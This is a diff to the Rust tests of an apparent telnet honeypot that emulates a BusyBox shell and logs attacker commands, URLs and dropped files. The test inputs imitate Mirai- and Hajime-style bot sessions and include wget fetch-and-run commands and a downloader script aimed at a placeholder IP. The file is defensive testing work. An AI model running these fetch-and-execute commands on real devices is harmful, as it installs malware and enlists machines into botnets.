@@ -1,5 +1,5 @@
 use super::super::transcript::{Outcome, Step as Do, Transcript};
-use super::super::{Output, Persona, Registry};
+use super::super::{Guise, Output, Persona, Registry};
 use super::*;
 
 #[path = "../../../tests/dialogues/loader.rs"]
@@ -47,7 +47,7 @@ fn shell_at(lines: &[&str], wait_ms: u64) -> (String, Outcome) {
 fn lead(dialogue: &str, settings: &str) -> Outcome {
     let mut registry = Registry::builtin();
     let table: toml::Table = format!("[telnet]\n{settings}").parse().unwrap();
-    registry.configure(&table, 4_096, &Persona::example()).unwrap();
+    registry.configure(&table, 4_096, &Guise::example()).unwrap();
     let session = Session::example(Transport::Tcp, 23);
     let mut handler = registry.find("telnet").unwrap().make(&session);
     let mut out = Output::default();
@@ -59,7 +59,6 @@ fn lead(dialogue: &str, settings: &str) -> Outcome {
     loop {
         deadline = out.deadline.unwrap_or(deadline);
         loader.receive(out.bytes());
-        loader.ended = out.close.is_some();
         out.clear();
         match loader.next() {
             Wish::Send(bytes) => {
@@ -77,15 +76,18 @@ fn lead(dialogue: &str, settings: &str) -> Outcome {
             Wish::Done => break,
         }
     }
-    let steps: Vec<Do<'_>> = steps
-        .iter()
-        .map(|(bytes, wait)| if bytes.is_empty() { Do::Wait(*wait) } else { Do::Recv(bytes) })
-        .collect();
+    let steps: Vec<Do<'_>> =
+        steps.iter().map(|(bytes, wait)| if bytes.is_empty() { Do::Wait(*wait) } else { Do::Recv(bytes) }).collect();
     visit(settings, &steps)
 }
 
 fn commands(outcome: &Outcome) -> Vec<&str> {
-    outcome.events.iter().filter(|event| event.kind == "command").map(|event| event.fields["command"].as_str().unwrap()).collect()
+    outcome
+        .events
+        .iter()
+        .filter(|event| event.kind == "command")
+        .map(|event| event.fields["command"].as_str().unwrap())
+        .collect()
 }
 
 fn urls(outcome: &Outcome) -> Vec<&str> {
@@ -132,7 +134,8 @@ fn the_first_try_is_let_in_and_another_one_is_not() {
 
 #[test]
 fn line_ends_of_every_kind_are_one_line_end() {
-    let outcome = visit("", &[Do::Recv(b"a\r\nb\r\n"), Do::Wait(200), Do::Recv(b"echo 1\r\0echo 2\necho 3\r\necho 4\r")]);
+    let outcome =
+        visit("", &[Do::Recv(b"a\r\nb\r\n"), Do::Wait(200), Do::Recv(b"echo 1\r\0echo 2\necho 3\r\necho 4\r")]);
     assert_eq!(commands(&outcome), ["echo 1", "echo 2", "echo 3", "echo 4"]);
 }
 
@@ -184,14 +187,14 @@ fn mirai_goes_through_with_echo_and_the_sample_is_whole() {
 fn hajime_goes_through() {
     let outcome = lead(HAJIME, "");
     assert_eq!(urls(&outcome), ["http://198.51.100.9:41231/.i"]);
-    assert!(outcome.closed);
+    assert!(commands(&outcome).last().unwrap().ends_with("./.i; exit"));
 }
 
 #[test]
 fn what_was_written_is_there_at_the_next_visit_and_only_for_its_source() {
     let mut registry = Registry::builtin();
     let tables: toml::Table = "[telnet]\ncredentials = 'accept-all'".parse().unwrap();
-    registry.configure(&tables, 4_096, &Persona::example()).unwrap();
+    registry.configure(&tables, 4_096, &Guise::example()).unwrap();
     let mut visit = |client: &str, line: &str| {
         let session = Session { client: client.parse().unwrap(), ..Session::example(Transport::Tcp, 23) };
         let mut handler = registry.find("telnet").unwrap().make(&session);
@@ -211,7 +214,8 @@ fn what_was_written_is_there_at_the_next_visit_and_only_for_its_source() {
 
 #[test]
 fn sleep_takes_its_time_and_what_is_typed_meanwhile_comes_after() {
-    let mut steps = vec![LOGIN[0], LOGIN[1], Do::Recv(b"sleep 5; echo over\r\necho next\r\n"), Do::Wait(4_900), Do::Wait(200)];
+    let mut steps =
+        vec![LOGIN[0], LOGIN[1], Do::Recv(b"sleep 5; echo over\r\necho next\r\n"), Do::Wait(4_900), Do::Wait(200)];
     let outcome = visit("", &steps);
     assert_eq!(outcome.sent_after[2], outcome.sent_after[3]);
     let late = String::from_utf8_lossy(&outcome.sent()[outcome.sent_after[3]..]).into_owned();
@@ -267,7 +271,10 @@ fn programs_say_what_busybox_says() {
 
 #[test]
 fn a_program_that_reads_the_terminal_gets_what_is_typed() {
-    let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"cat > /tmp/t; echo stored\r\nline one\r\nline two\r\n\x04cat /tmp/t\r\n")]);
+    let outcome = visit(
+        "",
+        &[LOGIN[0], LOGIN[1], Do::Recv(b"cat > /tmp/t; echo stored\r\nline one\r\nline two\r\n\x04cat /tmp/t\r\n")],
+    );
     let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
     assert!(sent.contains("stored\r\n") && sent.contains("cat /tmp/t\r\nline one\r\nline two\r\n"), "{sent}");
 }
@@ -276,20 +283,27 @@ fn a_program_that_reads_the_terminal_gets_what_is_typed() {
 fn a_new_password_is_asked_for_twice_and_not_shown() {
     let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"passwd\r\nhidden\r\nhidden\r\n"), Do::Wait(400)]);
     let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
-    assert!(!sent.contains("hidden") && sent.contains("Retype password: ") && sent.contains("changed by root"), "{sent}");
+    assert!(
+        !sent.contains("hidden") && sent.contains("Retype password: ") && sent.contains("changed by root"),
+        "{sent}"
+    );
     assert!(commands(&outcome).contains(&"hidden"));
 }
 
 #[test]
 fn what_was_fetched_is_there_and_can_be_run() {
-    let (text, outcome) = shell_at(&["cd /tmp; wget http://198.51.100.9/b.arm; ls", "chmod +x b.arm; ./b.arm x"], 1_000);
+    let (text, outcome) =
+        shell_at(&["cd /tmp; wget http://198.51.100.9/b.arm; ls", "chmod +x b.arm; ./b.arm x"], 1_000);
     assert!(text.contains("b.arm\n") && text.contains("listening tun0\n"), "{text}");
     assert_eq!(urls(&outcome), ["http://198.51.100.9/b.arm"]);
 }
 
 #[test]
 fn a_file_left_behind_is_a_sample_and_a_trial_is_not() {
-    let (_, outcome) = shell_at(&["echo kami > /tmp/.t; cat /tmp/.t; rm /tmp/.t", "echo '#!/bin/sh\nwget http://198.51.100.9/x' > /tmp/s.sh"], 0);
+    let (_, outcome) = shell_at(
+        &["echo kami > /tmp/.t; cat /tmp/.t; rm /tmp/.t", "echo '#!/bin/sh\nwget http://198.51.100.9/x' > /tmp/s.sh"],
+        0,
+    );
     let names: Vec<&str> = outcome.samples.iter().map(|sample| sample.name.as_str()).collect();
     assert_eq!(names, ["/tmp/s.sh"]);
 }
